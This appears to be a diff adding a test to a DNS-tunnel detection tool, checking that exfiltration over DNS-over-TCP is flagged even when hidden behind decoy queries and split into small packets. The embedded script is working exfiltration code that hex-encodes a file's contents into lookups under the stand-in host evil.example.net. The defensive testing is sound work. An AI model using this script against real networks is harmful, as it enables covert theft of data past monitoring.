@@ -78,6 +78,44 @@ def test_tunnel(sluice, policy, names, run, tmp, job, noise, relayed):
     assert f["chain"][0]["via"] == "read" and f["chain"][-1]["via"] == "dns"
 
 
+STREAM = """
+import socket, struct, sys
+data = open(sys.argv[2], "rb").read()[:int(sys.argv[3])]
+names = 80 * ["www.example.com"] + [data[i:i + 30].hex() + ".evil.example.net" for i in range(0, len(data), 30)]
+stream = b""
+for name in names:
+    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
+    question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + bytes([0, 0, 1, 0, 1])
+    stream += struct.pack("!H", len(question)) + question
+c = socket.create_connection((sys.argv[1], 53))
+c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+step = int(sys.argv[4]) or len(stream)
+for i in range(0, len(stream), step):
+    c.sendall(stream[i:i + step])
+f = c.makefile("rb")
+for name in names:
+    f.read(struct.unpack("!H", f.read(2))[0])
+"""
+
+
+@pytest.mark.parametrize("step", [0, 7], ids=["at-once", "in-pieces"])
+def test_tunnel_over_tcp(sluice, policy, names, run, tmp, job, noise, step):
+    """Questions of one connection, all in one packet or each in many, behind others that carry nothing."""
+    d = names({})
+    m = sluice(policy(d))
+    with open(f"{tmp}/stream.py", "w", encoding="utf-8") as f:
+        f.write(STREAM)
+    run(d, f"exec {PYTHON} {tmp}/stream.py {d.ip} {noise} 3001 {step}")
+    wait_for("the finding", lambda: [f for f in m.now("findings")["items"] if f["rule"] == "dns.tunnel"])
+    f = m.stop().finding("dns.tunnel")
+    asked = [name for name in d.asked() if name.endswith(".evil.example.net")]
+    assert len(asked) == len(set(asked)) == 101
+    assert f["leak_bound"] >= sum(len(name) - len(".evil.example.net") for name in asked) == 6002
+    assert f["leak_bound"] <= 2 * sum(len(name) for name in asked)
+    assert "asked for 101 names below example.net" in f["title"]
+    assert f["job"] == job.name
+
+
 ASK = """
 import socket, sys
 open(sys.argv[1], "rb").read()
